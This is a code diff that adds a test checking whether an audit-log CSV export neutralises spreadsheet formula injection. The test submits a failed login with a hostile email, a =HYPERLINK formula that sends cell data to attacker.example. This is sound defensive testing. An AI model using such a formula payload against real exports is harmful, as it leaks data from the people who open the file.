@@ -10,6 +10,7 @@ import { setupAdmin } from "@tests/helpers/auth";
 import { db, transaction } from "../platform/db/client";
 import { appendAuditEntry } from "./append-audit-entry";
 import { CSV_COLUMNS } from "./export-audit-log";
+import { originalCellValue } from "../platform/csv/spreadsheet-safe-cell";
 
 const PATH = "/api/v1/enterprise/audit-logs/export";
 /** More rows than one batch of the export reads, so the keyset continuation is exercised. */
@@ -77,6 +78,23 @@ describe("audit log export", () => {
     );
     expect(Object.keys(rows[0])).toEqual([...CSV_COLUMNS]);
     expect(CSV_COLUMNS).toContain("currentHash");
+  });
+
+  it("neutralizes formula cells a failed login put in the log (CSV), keeps JSON Lines as stored, and the reader's undo restores them", async () => {
+    const hostile = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
+    const login = await api("POST", "/v1/auth/login", { body: { email: hostile, password: "anything" } });
+    expect(login.status).toBe(401);
+    const query = `actor=${encodeURIComponent(hostile)}`;
+    const rows = parse((await exportAs(query)).text, { columns: true }) as Record<string, string>[];
+    expect(rows).toHaveLength(1);
+    expect(rows[0].actorIdentifier).toBe(`'${hostile}`);
+    expect(rows[0].targetId).toBe(`'${hostile}`);
+    // No cell of the export starts as a formula; removing one leading quote gives back what is stored.
+    for (const cell of Object.values(rows[0])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect([originalCellValue(rows[0].actorIdentifier), originalCellValue(rows[0].targetId)]).toEqual([hostile, hostile]);
+    expect(originalCellValue(rows[0].currentHash)).toBe(rows[0].currentHash);
+    const [line] = (await exportAs(`format=jsonl&${query}`)).text.split("\n");
+    expect(JSON.parse(line)).toMatchObject({ actorIdentifier: hostile, targetId: hostile });
   });
 
   it("audits each export with its actor and filters", async () => {
